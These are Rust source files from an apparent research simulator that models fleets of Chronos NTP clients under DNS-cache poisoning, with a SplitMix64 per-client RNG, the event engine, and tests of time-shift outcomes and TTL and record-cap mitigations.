        assert_ne!(a, fault_f64(8, 3, FaultLane::DnsQuery, 5, 0), "seed");
        assert_ne!(a, fault_f64(7, 4, FaultLane::DnsQuery, 5, 0), "client");
        assert_ne!(a, fault_f64(7, 3, FaultLane::NtpSample, 5, 0), "lane");
        assert_ne!(a, fault_f64(7, 3, FaultLane::DnsQuery, 6, 0), "round");
        assert_ne!(a, fault_f64(7, 3, FaultLane::DnsQuery, 5, 1), "slot");
        // Decorrelated from the client's main stream: the fault substream
        // seed never equals the main stream seed for the same client.
        assert_ne!(
            fault_seed(7, 3, FaultLane::DnsQuery, 0, 0),
            client_seed(7, 3)
        );
    }

    #[test]
    fn fault_draws_look_uniform_per_lane() {
        // A loss probability p must drop ~p of slots: check the empirical
        // mean of draws across many (round, slot) keys per lane.
        for lane in [
            FaultLane::DnsQuery,
            FaultLane::NtpSample,
            FaultLane::PanicSample,
            FaultLane::RetryJitter,
            FaultLane::NtsRekey,
            FaultLane::RoughtimeFetch,
        ] {
            let n = 4_000;
            let mean: f64 = (0..n)
                .map(|k| fault_f64(42, 17, lane, k / 16, k % 16))
                .sum::<f64>()
                / n as f64;
            assert!(
                (mean - 0.5).abs() < 0.03,
                "{lane:?} draw mean {mean} far from uniform"
            );
        }
    }
}
