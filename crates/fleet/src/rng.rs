//! Per-client random streams.
//!
//! A fleet keeps one RNG stream per client so trajectories are a function
//! of `(fleet seed, global client id)` alone — independent of fleet size,
//! iteration order and thread count. The generator is SplitMix64: 8 bytes
//! of state per client (a [`netsim::rng::SimRng`] carries a full ChaCha
//! state, far too heavy for 10⁶ columns), passes practical statistical
//! tests, and seeds decorrelate under the finalizer mix.

use serde::{Deserialize, Serialize};

/// Weyl increment of SplitMix64.
const GAMMA: u64 = 0x9e37_79b9_7f4a_7c15;

/// The SplitMix64 output finalizer: a strong 64-bit mix.
#[inline]
fn finalize(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Derives the RNG seed for one client from the fleet seed and the
/// client's *global* id, so the same client reproduces its stream in any
/// fleet slicing (see `FleetConfig::first_client_id`).
pub fn client_seed(fleet_seed: u64, global_id: u64) -> u64 {
    finalize(fleet_seed ^ (global_id.wrapping_add(1)).wrapping_mul(GAMMA))
}

/// An 8-byte deterministic RNG stream (SplitMix64).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct FleetRng(u64);

impl FleetRng {
    /// Creates a stream from a 64-bit seed.
    pub fn from_seed(seed: u64) -> Self {
        FleetRng(seed)
    }

    /// The raw state, for storage in a state column.
    pub fn state(self) -> u64 {
        self.0
    }

    /// Next 64 uniform bits.
    #[inline]
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(GAMMA);
        finalize(self.0)
    }

    /// Uniform draw in `[0, 1)` with 53-bit resolution.
    #[inline]
    pub fn next_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Uniform integer in `[0, n)`.
    ///
    /// # Panics
    ///
    /// Panics if `n` is zero.
    #[inline]
    pub fn range_u64(&mut self, n: u64) -> u64 {
        assert!(n > 0, "empty range");
        // Multiply-shift reduction (Lemire, without the rejection step: the
        // modulo bias over ranges ≪ 2^64 is far below statistical noise for
        // a simulation, and determinism is what matters here).
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform integer in `[lo, hi]` (inclusive).
    ///
    /// # Panics
    ///
    /// Panics if `lo > hi`.
    #[inline]
    pub fn range_i64(&mut self, lo: i64, hi: i64) -> i64 {
        assert!(lo <= hi, "inverted range {lo}..={hi}");
        let span = (hi as i128 - lo as i128 + 1) as u128;
        let draw = (u128::from(self.next_u64()) * span) >> 64;
        (lo as i128 + draw as i128) as i64
    }

    /// A normal variate with the given mean and standard deviation
    /// (Box-Muller; consumes two uniforms).
    #[inline]
    pub fn normal(&mut self, mean: f64, std_dev: f64) -> f64 {
        let u1 = 1.0 - self.next_f64(); // (0, 1] so ln is finite
        let u2 = self.next_f64();
        mean + std_dev * (-2.0 * u1.ln()).sqrt() * (core::f64::consts::TAU * u2).cos()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn streams_are_deterministic_and_decorrelated() {
        let mut a = FleetRng::from_seed(client_seed(7, 0));
        let mut b = FleetRng::from_seed(client_seed(7, 0));
        let mut c = FleetRng::from_seed(client_seed(7, 1));
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut a = FleetRng::from_seed(client_seed(7, 0));
        let same = (0..64).filter(|_| a.next_u64() == c.next_u64()).count();
        assert_eq!(same, 0, "adjacent client ids share no outputs");
    }

    #[test]
    fn range_draws_are_in_bounds() {
        let mut rng = FleetRng::from_seed(3);
        for _ in 0..1000 {
            assert!(rng.range_u64(7) < 7);
            let v = rng.range_i64(-5, 5);
            assert!((-5..=5).contains(&v));
        }
        assert_eq!(rng.range_u64(1), 0);
        assert_eq!(rng.range_i64(4, 4), 4);
    }

    #[test]
    fn range_covers_extremes() {
        let mut rng = FleetRng::from_seed(11);
        let mut seen = [false; 5];
        for _ in 0..1000 {
            seen[rng.range_u64(5) as usize] = true;
        }
        assert!(seen.iter().all(|&s| s), "all residues reachable");
    }

    #[test]
    fn normal_moments_are_plausible() {
        let mut rng = FleetRng::from_seed(5);
        let n = 20_000;
        let samples: Vec<f64> = (0..n).map(|_| rng.normal(2.0, 3.0)).collect();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let var = samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / (n - 1) as f64;
        assert!((mean - 2.0).abs() < 0.1, "mean {mean}");
        assert!((var - 9.0).abs() < 0.5, "var {var}");
    }

    #[test]
    #[should_panic(expected = "empty range")]
    fn zero_range_rejected() {
        FleetRng::from_seed(0).range_u64(0);
    }
}
