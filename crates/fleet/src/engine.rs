//! The fleet engine: struct-of-arrays client state stepped through the
//! timer wheel.
//!
//! # Event model
//!
//! Every client owns exactly one pending deadline — its next pool-
//! generation round or its next poll — filed in the [`TimerWheel`]. The
//! wheel batches deadlines by tick, the engine re-orders each batch by
//! exact `(nanosecond, client)` and steps clients one lane at a time, so a
//! run's outcome is a pure function of the configuration: independent of
//! wheel internals and (because a run is single-threaded while *trials*
//! parallelize above it) thread count. Per-client state — trajectories,
//! pools, clocks — and the counting aggregates (histogram, shifted
//! series) are additionally independent of the tick size, which only
//! batches; the one tick-shaped edge is that a same-instant follow-up
//! appended mid-drain (a completed pool's first poll) runs at the end of
//! its batch, so the *order* of the global observation stream feeding the
//! order-sensitive P² quantile estimators is defined at the fixed 1 ms
//! tick grain (`TICK_NS`).
//!
//! A poll round is **batched request/response**: instead of exchanging
//! packets, the engine draws the round's sample composition directly from
//! the client's pool (malicious vs benign, without replacement), produces
//! per-sample observed offsets (server offset − client offset + path
//! jitter), and concludes the round through the *real* Chronos decision
//! machinery in [`chronos::core`] — the same code the packet-level client
//! runs. Corrections land on real [`ntplab::clock::LocalClock`]s.

use crate::config::FleetConfig;
use crate::resolver::{DnsAnswer, ResolverModel};
use crate::rng::{client_seed, FleetRng};
use crate::stats::{OffsetHistogram, P2Quantile};
use crate::wheel::TimerWheel;
use chronos::core::{self, ChronosStats, CoreState, Phase, RoundOutcome};
use chronos::select::SelectScratch;
use netsim::time::{SimDuration, SimTime};
use ntplab::clock::LocalClock;
use serde::{Deserialize, Serialize};

/// Per-client pending event kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum EventKind {
    /// The next pool-generation DNS round.
    PoolRound,
    /// The next sample (poll) round.
    Poll,
}

/// Quantiles tracked by the streaming estimators.
const TRACKED_QUANTILES: [f64; 3] = [0.5, 0.9, 0.99];

/// Aggregate outcome of a fleet run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FleetReport {
    /// Clients simulated.
    pub clients: usize,
    /// Simulated end time.
    pub end: SimTime,
    /// `(seconds, fraction)` series: share of the fleet whose |clock
    /// error| exceeds the safety bound, sampled at the configured cadence.
    pub shifted: Vec<(f64, f64)>,
    /// The fraction at the end of the run.
    pub final_shifted_fraction: f64,
    /// Clients whose pool contains at least one malicious server.
    pub poisoned_clients: u64,
    /// Clients that completed pool generation.
    pub synced_clients: u64,
    /// Element-wise sum of every client's [`ChronosStats`].
    pub totals: ChronosStats,
    /// Online `(p, |offset| ns)` quantile estimates over every concluded
    /// round's clock error.
    pub quantiles: Vec<(f64, f64)>,
    /// Fixed-bin histogram of the same stream.
    pub histogram: OffsetHistogram,
    /// Client events stepped (pool rounds + polls), for throughput
    /// accounting.
    pub events: u64,
}

/// A population of lightweight Chronos clients in one shared world.
#[derive(Debug)]
pub struct Fleet {
    config: FleetConfig,
    // --- struct-of-arrays client state ---
    clocks: Vec<LocalClock>,
    phase: Vec<Phase>,
    retries: Vec<u32>,
    last_update: Vec<Option<SimTime>>,
    rng: Vec<u64>,
    stats: Vec<ChronosStats>,
    pool_rounds: Vec<u16>,
    /// Bitmap of benign rotation batches gathered (dedup, ≤ 64 residues).
    benign_batches: Vec<u64>,
    /// Malicious servers admitted to the pool (post-mitigation).
    malicious: Vec<u32>,
    kind: Vec<EventKind>,
    deadline_ns: Vec<u64>,
    traces: Vec<Vec<(SimTime, i64)>>,
    // --- machinery ---
    wheel: TimerWheel,
    resolver: ResolverModel,
    scratch: SelectScratch,
    offsets_buf: Vec<i64>,
    due: Vec<u32>,
    expired: Vec<u32>,
    /// Events popped off the wheel but beyond the current run boundary.
    carry: Vec<u32>,
    now_ns: u64,
    boundary_ns: u64,
    next_sample_ns: u64,
    shifted_series: Vec<(f64, f64)>,
    histogram: OffsetHistogram,
    quantiles: [P2Quantile; 3],
    events_processed: u64,
}

/// Wheel tick: 1 ms. A batching grain, not a quantization: events are
/// re-ordered and timestamped by exact nanosecond (see the module docs
/// for the one place the grain shows — P² observation order).
const TICK_NS: u64 = 1_000_000;

impl Fleet {
    /// Builds a fleet for `config` at time zero.
    ///
    /// # Panics
    ///
    /// Panics if the configuration is inconsistent
    /// (see [`FleetConfig::validate`]).
    pub fn new(config: FleetConfig) -> Fleet {
        config.validate();
        let n = config.clients;
        let mut fleet = Fleet {
            resolver: ResolverModel::new(&config),
            clocks: vec![LocalClock::perfect(); n],
            phase: vec![Phase::PoolGeneration; n],
            retries: vec![0; n],
            last_update: vec![None; n],
            rng: vec![0; n],
            stats: vec![ChronosStats::default(); n],
            pool_rounds: vec![0; n],
            benign_batches: vec![0; n],
            malicious: vec![0; n],
            kind: vec![EventKind::PoolRound; n],
            deadline_ns: vec![0; n],
            traces: Vec::new(),
            wheel: TimerWheel::new(n, TICK_NS),
            scratch: SelectScratch::with_capacity(config.chronos.sample_size),
            offsets_buf: Vec::with_capacity(config.chronos.sample_size),
            due: Vec::new(),
            expired: Vec::new(),
            carry: Vec::new(),
            now_ns: 0,
            boundary_ns: 0,
            next_sample_ns: 0,
            shifted_series: Vec::new(),
            histogram: OffsetHistogram::log_scale(8),
            quantiles: TRACKED_QUANTILES.map(P2Quantile::new),
            events_processed: 0,
            config,
        };
        fleet.init_clients();
        fleet
    }

    /// The configuration in force.
    pub fn config(&self) -> &FleetConfig {
        &self.config
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        SimTime::from_nanos(self.now_ns)
    }

    /// Client events stepped so far.
    pub fn events(&self) -> u64 {
        self.events_processed
    }

    /// Rewinds the fleet to time zero under a new seed, reusing every
    /// allocation. After `reset`, running is byte-identical to a fresh
    /// [`Fleet::new`] with the same config and seed.
    pub fn reset(&mut self, seed: u64) {
        self.config.seed = seed;
        self.wheel.reset();
        self.resolver.reset();
        self.due.clear();
        self.expired.clear();
        self.carry.clear();
        self.now_ns = 0;
        self.boundary_ns = 0;
        self.next_sample_ns = 0;
        self.shifted_series.clear();
        self.histogram.reset();
        for q in &mut self.quantiles {
            q.reset();
        }
        self.events_processed = 0;
        self.init_clients();
    }

    /// Swaps in a different configuration, reusing allocations where the
    /// client count matches (the pooling hook: same-shape configs differ
    /// only in seed, so columns are always reusable there).
    pub fn reconfigure(&mut self, config: FleetConfig) {
        config.validate();
        let n = config.clients;
        if n != self.config.clients {
            self.clocks.resize(n, LocalClock::perfect());
            self.phase.resize(n, Phase::PoolGeneration);
            self.retries.resize(n, 0);
            self.last_update.resize(n, None);
            self.rng.resize(n, 0);
            self.stats.resize(n, ChronosStats::default());
            self.pool_rounds.resize(n, 0);
            self.benign_batches.resize(n, 0);
            self.malicious.resize(n, 0);
            self.kind.resize(n, EventKind::PoolRound);
            self.deadline_ns.resize(n, 0);
            self.wheel.resize(n);
        }
        let seed = config.seed;
        self.resolver = ResolverModel::new(&config);
        self.config = config;
        self.reset(seed);
    }

    fn init_clients(&mut self) {
        self.traces.clear();
        if self.config.record_trajectories {
            self.traces.resize(self.config.clients, Vec::new());
        }
        let stagger_ns = self.config.stagger.as_nanos();
        let drift_bound = self.config.client_drift_ppm;
        for i in 0..self.config.clients {
            let g = self.config.first_client_id + i as u64;
            let mut rng = FleetRng::from_seed(client_seed(self.config.seed, g));
            // Fixed per-client draw order: (1) boot stagger, (2) drift.
            let start_ns = if stagger_ns > 0 {
                rng.range_u64(stagger_ns)
            } else {
                0
            };
            let drift = if drift_bound > 0.0 {
                drift_bound * (2.0 * rng.next_f64() - 1.0)
            } else {
                0.0
            };
            self.clocks[i] = LocalClock::new(0, drift);
            self.phase[i] = Phase::PoolGeneration;
            self.retries[i] = 0;
            self.last_update[i] = None;
            self.rng[i] = rng.state();
            self.stats[i] = ChronosStats::default();
            self.pool_rounds[i] = 0;
            self.benign_batches[i] = 0;
            self.malicious[i] = 0;
            self.schedule(i, EventKind::PoolRound, start_ns);
        }
    }

    /// Runs the fleet up to and including every event with a deadline at
    /// or before `until`.
    ///
    /// # Panics
    ///
    /// Panics if `until` precedes the current time.
    pub fn run_until(&mut self, until: SimTime) {
        let target = until.as_nanos();
        assert!(target >= self.now_ns, "cannot run backwards");
        self.boundary_ns = target;
        // Carried events (popped past an earlier boundary) may be due now.
        if !self.carry.is_empty() {
            let carry = std::mem::take(&mut self.carry);
            for id in carry {
                if self.deadline_ns[id as usize] <= target {
                    self.due.push(id);
                } else {
                    self.carry.push(id);
                }
            }
        }
        self.process_due();
        while self.wheel.now_ns() < target && (self.wheel.armed() > 0 || !self.due.is_empty()) {
            self.wheel.advance(&mut self.expired);
            while let Some(id) = self.expired.pop() {
                if self.deadline_ns[id as usize] <= target {
                    self.due.push(id);
                } else {
                    self.carry.push(id);
                }
            }
            self.process_due();
        }
        self.emit_samples_until(target);
        self.now_ns = target;
    }

    /// Convenience: runs for a duration.
    pub fn run_for(&mut self, d: SimDuration) {
        self.run_until(self.now() + d);
    }

    /// Runs the configured horizon and reports.
    pub fn run(&mut self) -> FleetReport {
        self.run_until(SimTime::ZERO + self.config.horizon);
        self.report()
    }

    fn process_due(&mut self) {
        if self.due.is_empty() {
            return;
        }
        // Batches come off the wheel tick-grained; the engine's semantics
        // are (deadline, client)-ordered. Appended same-instant follow-ups
        // run at batch end (see the module docs on P² observation order).
        self.due
            .sort_unstable_by_key(|&id| (self.deadline_ns[id as usize], id));
        // Handlers may append same-instant follow-ups (a completed pool
        // schedules its first poll at the same nanosecond); the index loop
        // picks them up within this drain.
        let mut i = 0;
        while i < self.due.len() {
            let id = self.due[i] as usize;
            i += 1;
            let at_ns = self.deadline_ns[id];
            self.emit_samples_until(at_ns);
            self.events_processed += 1;
            match self.kind[id] {
                EventKind::PoolRound => self.pool_round(id, at_ns),
                EventKind::Poll => self.poll_round(id, at_ns),
            }
        }
        self.due.clear();
    }

    fn schedule(&mut self, i: usize, kind: EventKind, at_ns: u64) {
        self.kind[i] = kind;
        self.deadline_ns[i] = at_ns;
        if !self.wheel.schedule(i as u32, at_ns) {
            // The wheel clock already passed this tick: run it within the
            // current window, or carry it into the next one.
            if at_ns <= self.boundary_ns {
                self.due.push(i as u32);
            } else {
                self.carry.push(i as u32);
            }
        }
    }

    // --- DNS pool generation ---

    fn pool_round(&mut self, i: usize, at_ns: u64) {
        self.stats[i].pool_queries += 1;
        let round = u64::from(self.pool_rounds[i]);
        let answer = if self.config.shared_cache {
            self.resolver.query_shared(at_ns)
        } else {
            self.resolver.query_independent(at_ns, round)
        };
        self.absorb_response(i, answer);
        self.pool_rounds[i] += 1;
        if usize::from(self.pool_rounds[i]) >= self.config.chronos.pool.queries {
            self.phase[i] = Phase::Syncing;
            // Mirrors the packet client's zero-delay first poll.
            self.schedule(i, EventKind::Poll, at_ns);
        } else {
            self.schedule(
                i,
                EventKind::PoolRound,
                at_ns + self.config.chronos.pool.query_interval.as_nanos(),
            );
        }
    }

    /// Applies one DNS response to a client pool, honouring the §V
    /// mitigations exactly as [`chronos::pool::PoolGenerator`] does: a
    /// response with any TTL above `reject_ttl_above` is discarded whole,
    /// and at most `max_records_per_response` addresses are taken (the
    /// same prefix every time, so a capped poisoned response never grows
    /// the pool past its first acceptance).
    fn absorb_response(&mut self, i: usize, answer: DnsAnswer) {
        let pool_cfg = &self.config.chronos.pool;
        let record_cap = pool_cfg.max_records_per_response.unwrap_or(usize::MAX);
        let ttl = match answer {
            DnsAnswer::Benign { ttl_secs, .. } | DnsAnswer::Poisoned { ttl_secs, .. } => ttl_secs,
        };
        if pool_cfg.reject_ttl_above.is_some_and(|cap| ttl > cap) {
            return; // the round is consumed, nothing is admitted
        }
        match answer {
            DnsAnswer::Benign { batch, .. } => {
                let residue = batch % self.config.rotation_batches() as u64;
                self.benign_batches[i] |= 1u64 << residue;
            }
            DnsAnswer::Poisoned { farm_size, .. } => {
                let admitted = farm_size.min(record_cap) as u32;
                self.malicious[i] = self.malicious[i].max(admitted);
            }
        }
    }

    /// Benign servers in client `i`'s pool (batches × admitted-per-batch).
    fn benign_count(&self, i: usize) -> usize {
        let per_batch = self
            .config
            .chronos
            .pool
            .max_records_per_response
            .unwrap_or(usize::MAX)
            .min(self.config.per_response);
        self.benign_batches[i].count_ones() as usize * per_batch
    }

    // --- poll rounds ---

    fn draw_benign_offset(rng: &mut FleetRng, bound_ns: i64) -> i64 {
        if bound_ns > 0 {
            rng.range_i64(-bound_ns, bound_ns)
        } else {
            0
        }
    }

    fn poll_round(&mut self, i: usize, at_ns: u64) {
        let benign = self.benign_count(i);
        let malicious = self.malicious[i] as usize;
        let total = benign + malicious;
        let poll_ns = self.config.chronos.poll_interval.as_nanos();
        if total == 0 {
            // Nothing to sample; try again next interval (as the packet
            // client does, without counting a poll).
            self.schedule(i, EventKind::Poll, at_ns + poll_ns);
            return;
        }
        self.stats[i].polls += 1;
        let mut rng = FleetRng::from_seed(self.rng[i]);
        let m = self.config.chronos.sample_size.min(total);
        let shift_ns = self.config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = self.config.benign_offset_ms as i64 * 1_000_000;
        let jitter = self.config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(at_ns));
        // Sample m of the pool without replacement (malicious block first),
        // drawing each picked server's observed offset in pick order.
        let mut mal_rem = malicious as u64;
        let mut ben_rem = benign as u64;
        self.offsets_buf.clear();
        for _ in 0..m {
            let u = rng.range_u64(mal_rem + ben_rem);
            let server_off = if u < mal_rem {
                mal_rem -= 1;
                shift_ns
            } else {
                ben_rem -= 1;
                Self::draw_benign_offset(&mut rng, benign_bound)
            };
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        let collect_ns = at_ns + self.config.chronos.response_window.as_nanos();
        let collect = SimTime::from_nanos(collect_ns);
        let outcome = core::conclude_sample_round(
            &self.config.chronos,
            &mut CoreState {
                phase: &mut self.phase[i],
                retries: &mut self.retries[i],
                last_update: &mut self.last_update[i],
                stats: &mut self.stats[i],
            },
            &mut self.scratch,
            &self.offsets_buf,
            collect,
        );
        match outcome {
            RoundOutcome::Accept { correction_ns, .. } => {
                self.clocks[i].apply_correction(collect, correction_ns);
                self.observe(i, collect);
                self.rng[i] = rng.state();
                self.schedule(i, EventKind::Poll, collect_ns + poll_ns);
            }
            RoundOutcome::Resample => {
                self.observe(i, collect);
                self.rng[i] = rng.state();
                self.schedule(i, EventKind::Poll, collect_ns);
            }
            RoundOutcome::EnterPanic => {
                self.observe(i, collect);
                self.panic_round(i, collect_ns, &mut rng, benign, malicious);
                self.rng[i] = rng.state();
            }
        }
    }

    /// Panic mode: one batched round over the *whole* pool, concluding a
    /// response window later (as the packet client's panic collect does).
    fn panic_round(
        &mut self,
        i: usize,
        collect_ns: u64,
        rng: &mut FleetRng,
        benign: usize,
        malicious: usize,
    ) {
        let shift_ns = self.config.attack.map_or(0, |a| a.shift_ns);
        let benign_bound = self.config.benign_offset_ms as i64 * 1_000_000;
        let jitter = self.config.jitter_std.as_nanos() as f64;
        let client_off = self.clocks[i].offset_from_true(SimTime::from_nanos(collect_ns));
        self.offsets_buf.clear();
        for _ in 0..malicious {
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(shift_ns - client_off + noise);
        }
        for _ in 0..benign {
            let server_off = Self::draw_benign_offset(rng, benign_bound);
            let noise = if jitter > 0.0 {
                rng.normal(0.0, jitter) as i64
            } else {
                0
            };
            self.offsets_buf.push(server_off - client_off + noise);
        }
        let panic_ns = collect_ns + self.config.chronos.response_window.as_nanos();
        let panic_at = SimTime::from_nanos(panic_ns);
        let correction = core::conclude_panic_round(
            &mut CoreState {
                phase: &mut self.phase[i],
                retries: &mut self.retries[i],
                last_update: &mut self.last_update[i],
                stats: &mut self.stats[i],
            },
            &mut self.scratch,
            &self.offsets_buf,
            panic_at,
        );
        if let Some(correction) = correction {
            self.clocks[i].apply_correction(panic_at, correction);
        }
        self.observe(i, panic_at);
        self.schedule(
            i,
            EventKind::Poll,
            panic_ns + self.config.chronos.poll_interval.as_nanos(),
        );
    }

    /// Streams one concluded round's clock error into the aggregates (and
    /// the client's trajectory when recording).
    fn observe(&mut self, i: usize, now: SimTime) {
        let off = self.clocks[i].offset_from_true(now);
        if self.config.record_trajectories {
            self.traces[i].push((now, off));
        }
        let abs = off.unsigned_abs();
        self.histogram.record(abs);
        for q in &mut self.quantiles {
            q.observe(abs as f64);
        }
    }

    // --- sampling & reporting ---

    fn emit_samples_until(&mut self, up_to_ns: u64) {
        while self.next_sample_ns <= up_to_ns && self.next_sample_ns <= self.boundary_ns {
            let at = SimTime::from_nanos(self.next_sample_ns);
            let frac = self.shifted_fraction(at);
            self.shifted_series.push((at.as_secs_f64(), frac));
            self.next_sample_ns += self.config.sample_every.as_nanos();
        }
    }

    /// Fraction of the fleet whose |clock error| exceeds the safety bound
    /// at `now`.
    pub fn shifted_fraction(&self, now: SimTime) -> f64 {
        let bound = self.config.safety_bound.as_nanos() as i64;
        let shifted = self
            .clocks
            .iter()
            .filter(|c| c.offset_from_true(now).abs() > bound)
            .count();
        shifted as f64 / self.config.clients as f64
    }

    /// One client's clock error at `now`, ns.
    pub fn client_offset_ns(&self, i: usize, now: SimTime) -> i64 {
        self.clocks[i].offset_from_true(now)
    }

    /// One client's activity counters.
    pub fn client_stats(&self, i: usize) -> ChronosStats {
        self.stats[i]
    }

    /// One client's pool composition as `(benign, malicious)`.
    pub fn client_pool(&self, i: usize) -> (usize, usize) {
        (self.benign_count(i), self.malicious[i] as usize)
    }

    /// One client's lifecycle phase.
    pub fn client_phase(&self, i: usize) -> Phase {
        self.phase[i]
    }

    /// One client's recorded offset trajectory.
    ///
    /// # Panics
    ///
    /// Panics if the fleet was not configured with `record_trajectories`.
    pub fn trace(&self, i: usize) -> &[(SimTime, i64)] {
        assert!(
            self.config.record_trajectories,
            "fleet was not recording trajectories"
        );
        &self.traces[i]
    }

    /// Builds the aggregate report at the current time.
    pub fn report(&self) -> FleetReport {
        let now = self.now();
        let mut totals = ChronosStats::default();
        for s in &self.stats {
            totals.accumulate(s);
        }
        FleetReport {
            clients: self.config.clients,
            end: now,
            shifted: self.shifted_series.clone(),
            final_shifted_fraction: self.shifted_fraction(now),
            poisoned_clients: self.malicious.iter().filter(|&&m| m > 0).count() as u64,
            synced_clients: self
                .phase
                .iter()
                .filter(|&&p| p != Phase::PoolGeneration)
                .count() as u64,
            totals,
            quantiles: self
                .quantiles
                .iter()
                .map(|q| (q.p(), q.estimate()))
                .collect(),
            histogram: self.histogram.clone(),
            events: self.events_processed,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FleetAttack;

    fn small_config() -> FleetConfig {
        FleetConfig {
            seed: 7,
            clients: 64,
            universe: 96,
            chronos: chronos::config::ChronosConfig {
                sample_size: 9,
                trim: 3,
                poll_interval: SimDuration::from_secs(64),
                pool: chronos::config::PoolGenConfig {
                    queries: 6,
                    query_interval: SimDuration::from_secs(200),
                    ..chronos::config::PoolGenConfig::default()
                },
                ..chronos::config::ChronosConfig::default()
            },
            stagger: SimDuration::from_secs(100),
            sample_every: SimDuration::from_secs(120),
            horizon: SimDuration::from_secs(2_400),
            ..FleetConfig::default()
        }
    }

    #[test]
    fn benign_fleet_stays_synced() {
        let mut fleet = Fleet::new(small_config());
        let report = fleet.run();
        assert_eq!(report.clients, 64);
        assert_eq!(report.synced_clients, 64, "everyone finished pool gen");
        assert_eq!(report.poisoned_clients, 0);
        assert_eq!(report.totals.pool_queries, 64 * 6);
        assert!(
            report.totals.accepts >= 64,
            "each client accepted at least once"
        );
        assert_eq!(
            report.final_shifted_fraction, 0.0,
            "no attack, nobody shifted"
        );
        assert!(report.shifted.iter().all(|&(_, f)| f == 0.0));
        assert!(!report.shifted.is_empty());
        assert!(report.events > 64 * 6);
    }

    #[test]
    fn poisoning_during_generation_shifts_the_fleet() {
        let mut config = small_config();
        // Poison lands mid-generation: with 6 rounds x 200 s + 100 s
        // stagger, t = 300 s catches every client before round 3 of 6 —
        // >= 2/3 of each pool ends up malicious.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert_eq!(report.poisoned_clients, 64, "shared cache hits everyone");
        assert!(
            report.final_shifted_fraction > 0.9,
            "attacker majority drags (almost) the whole fleet: {}",
            report.final_shifted_fraction
        );
        // Poisoned clients are still *cold* at their first poll (pool
        // generation precedes syncing), so the unbounded cold-start
        // envelope accepts the shift directly — the paper's cold-client
        // path. The reject→panic path is exercised separately below.
        assert!(report.totals.accepts >= 64);
        // The series is monotone-ish: starts at 0, ends high.
        assert_eq!(report.shifted.first().unwrap().1, 0.0);
        assert!(report.shifted.last().unwrap().1 > 0.9);
        // Quantiles see the 500 ms shift.
        let p99 = report.quantiles.iter().find(|q| q.0 == 0.99).unwrap().1;
        assert!(p99 > 100_000_000.0, "p99 |offset| {p99} reflects the shift");
        assert!(report.histogram.fraction_at_or_above(100_000_000) > 0.1);
    }

    #[test]
    fn late_poisoning_misses_the_deadline() {
        let mut config = small_config();
        // After every client's round 4 of 6 (stagger 100 s + 4x200 s):
        // fewer than the winning share of rounds remain.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(1_000),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        // Every pool still picked up the poisoned rounds...
        assert_eq!(report.poisoned_clients, 64);
        // ...but 4 benign rounds of 4 addresses against 89 malicious is
        // still a 2/3 majority for the attacker with these compressed
        // numbers; what the deadline protects is pools with >= 45 benign
        // servers. Check composition arithmetic instead of the shift.
        let (benign, malicious) = fleet.client_pool(0);
        assert_eq!(malicious, 89);
        assert!(benign >= 4 * 4, "4 benign rounds landed before the poison");
    }

    #[test]
    fn disagreeing_universe_forces_rejects_and_panics() {
        // Benign servers scattered over ±200 ms against ω = 25 ms: every
        // mixed sample disagrees, so clients burn K retries and fall into
        // panic mode — the reject→panic machinery at fleet scale.
        let mut config = small_config();
        config.benign_offset_ms = 200;
        config.horizon = SimDuration::from_secs(2_000);
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert!(report.totals.rejects > 0, "ω rejected disagreeing rounds");
        assert!(report.totals.panics > 0, "K rejections forced panics");
        assert!(
            report.totals.panics * u64::from(fleet.config().chronos.max_retries)
                <= report.totals.rejects,
            "every panic costs K rejects"
        );
    }

    #[test]
    fn ttl_mitigation_blocks_the_poison_at_fleet_scale() {
        let mut config = small_config();
        config.chronos.pool.reject_ttl_above = Some(3_600);
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert_eq!(
            report.poisoned_clients, 0,
            "day-long TTL rejected everywhere"
        );
        assert_eq!(report.final_shifted_fraction, 0.0);
    }

    #[test]
    fn record_cap_bounds_the_malicious_share() {
        let mut config = small_config();
        config.chronos.pool.max_records_per_response = Some(4);
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        fleet.run();
        let (_, malicious) = fleet.client_pool(0);
        assert_eq!(malicious, 4, "89-record blast capped to 4");
    }

    #[test]
    fn reset_reproduces_a_fresh_fleet() {
        let mut config = small_config();
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        config.clients = 16;
        config.record_trajectories = true;
        let mut fresh = Fleet::new(config.clone());
        let fresh_report = fresh.run();
        // Run the same fleet object at another seed, then reset back.
